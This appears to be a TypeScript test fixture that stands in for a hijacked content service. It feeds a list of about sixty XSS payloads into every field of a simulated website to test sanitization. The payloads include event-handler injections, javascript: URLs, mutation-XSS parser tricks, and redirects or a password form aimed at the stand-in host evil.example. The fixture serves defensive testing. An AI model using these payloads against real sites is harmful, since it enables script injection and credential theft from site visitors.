import { type Answerer, type ScriptedUpstream, sendJson, startScriptedUpstream } from './scripted-upstream.ts';

/** Payloads of a compromised content service: each would run script, restyle the page or call another host. */
export const attacks = [
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>tekst</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"></svg>',
  '<a href="javascript:alert(1)">link</a>',
  '<a href="java\tscript:alert(1)">link</a>',
  '<a href="\u0001javascript:alert(1)">link</a>',
  '<a href="&#106;avascript&colon;alert(1)">link</a>',
  '<a href="data:text/html,<script>alert(1)</script>">link</a>',
  '<a href="vbscript:alert(1)">link</a>',
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<template><script>alert(1)</script></template>',
  '<p style="background:url(javascript:alert(1));position:fixed;inset:0">over alt</p>',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href="https://evil.example/x.css"><base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><input name=password autofocus onfocus=alert(1)><button>Log ind</button></form>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>',
  '<img src="//evil.example/x.png"><img src=`x`onerror=alert(1)>',
  '<img srcset="x 1x, y 2x" onerror=alert(1) src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<table background="javascript:alert(1)"><tr><td data-label="x" onmouseover=alert(1)>celle</td></tr></table>',
  '<p id="app" name="__proto__" class="button" onclick=alert(1)>afsnit</p>',
  '<a href="/om/" target="_blank" rel="opener" onclick="alert(1)">vindue</a>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '<marquee onstart=alert(1)>x</marquee><body onload=alert(1)><isindex onfocus=alert(1)>',
  '<noscript><style></noscript><img src=x onerror=alert(1)>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></iframe></foreignObject></svg>',
  '<svg><set attributeName=onmouseover to=alert(1)></set><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>alert(1)</handler></svg>',
  '<math href="javascript:alert(1)"><mi>klik</mi></math>',
  '<math><mi xlink:href="data:text/html,<script>alert(1)</script>">klik</mi></math>',
  '<table><td><math><mtext></table><mglyph><svg><style></math><img onerror=alert(1) src=1>',
  '<p id="</xmp><img src=x onerror=alert(1)>"><xmp></p>',
  '<plaintext><img src=x onerror=alert(1)></plaintext>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  '<iframe srcdoc="&lt;img src=x onerror=parent.alert(1)&gt;"></iframe>',
  '<div style="behavior:url(#x);-moz-binding:url(https://evil.example/x);width:expression(alert(1))">div</div>',
  '<p style="animation:x 1s" onanimationstart=alert(1) onwebkitanimationend=alert(1)>bevaegelse</p>',
  '<style>@import "https://evil.example/x.css";</style><style>p{background:url(https://evil.example/p)}</style>',
  '<a href="javas\ncript:alert(1)" ping="https://evil.example/ping">link</a>',
  '<p slot="x"><template shadowrootmode=open><script>alert(1)</script><slot></slot></template></p>',
  '<input type=image src=x onerror=alert(1)><button formaction="javascript:alert(1)" autofocus onfocus=alert(1)>knap</button>',
  '<img/src/onerror=alert(1)//<img src=x onerror=&#97;lert(1)><IMG SRC=x OnErRoR=alert`1`>',
];

const image = { Url: '/media/logo.svg', AltText: '' };
const day = '2026-01-01T00:00:00Z';

/** A `Global` with plain texts only. */
export const plainGlobal = {
  Header: { Menu: [], BurgerMenu: [] },
  Footer: { Addresses: [], Sitemap: [], CTAs: [] },
  Seo: { Title: 'Projekt Edison', Description: 'Opfind' },
  Tracking: {},
  Dictionaries: {},
  SoMe: [],
  Email: 'edison@skole.example',
  Logos: { Primary: image, Secondary: image },
  ShowMyProfile: true,
  PrivacyPolicyLink: '/privatliv/',
  MyPageSettings: { ModalInformation: '' },
};

const hostileGlobal = {
  ...plainGlobal,
  SoMe: [{ Link: 'https://example.org/', SVG: '<svg viewBox="0 0 1 1" onload="alert(1)"><script>alert(1)</script></svg>', Title: 'So' }],
  MyPageSettings: { ModalInformation: attacks.join('') },
};

/** A page with these blocks in the format of the content service. */
export function plainPage(path: string, blocks: readonly object[], changes: object = {}) {
  const frame = { path, title: 'En side', contentType: 'page', publishedAt: day, updatedAt: day, guestAllowed: true, middleware: [] };
  return { Page: { ...frame, seo: { Title: 'En side', Description: '' }, blocks, ...changes } };
}

function hostilePage(path: string) {
  const all = attacks.join('');
  const words = { Headline: all, Text: all, Lead: all, Name: all, Role: all };
  const blocks = [
    { ContentType: 'hero', Content: words },
    { ContentType: 'hologram', Content: { Html: all } },
    { ContentType: 'cards', Content: { Cards: [{ ...words, Url: 'javascript:alert(1)' }] } },
    ...attacks.map((Html) => ({ ContentType: 'richText', Content: { Html, updatedDate: day } })),
    ...attacks.map((Html) => ({ ContentType: 'richText', Content: { Html, updatedDate: '2019-01-01T00:00:00Z' } })),
    { ContentType: 'richText', Content: { Html: all } },
    { ContentType: 'accordion', Content: { Items: [{ Question: all, Html: all }] } },
    { ContentType: 'quote', Content: words },
    { ContentType: 'richText', Content: { Html: '<p>Siden lever.</p>', updatedDate: day } },
  ];
  return plainPage(path, blocks, { title: all, seo: { Title: all, Description: all } });
}

/** Answers a request below `/api/{root}/` as a content service: Global at the root, else a page. @returns whether the path is one of these. */
export function answerSite(global: object, page: (path: string) => unknown): (...asked: Parameters<Answerer>) => boolean {
  return ({ path: asked }, response) => {
    const [, path] = /^\/api\/projektedison\.dk(\/[^?]*)$/.exec(decodeURI(asked)) ?? [];
    if (path === undefined) return false;
    const found = path === '/' ? { date: day, Global: global } : page(path === '/Index' ? '/' : path);
    sendJson(response, found ?? { problem: 'NOT_FOUND' }, found === undefined ? 404 : 200);
    return true;
  };
}

/** A content service that has been taken over; every path is its one page. */
export function startHostileContent(): Promise<ScriptedUpstream> {
  const site = answerSite(hostileGlobal, hostilePage);
  return startScriptedUpstream((asked, response) => site(asked, response) || sendJson(response, { problem: 'NOT_FOUND' }, 404));
}
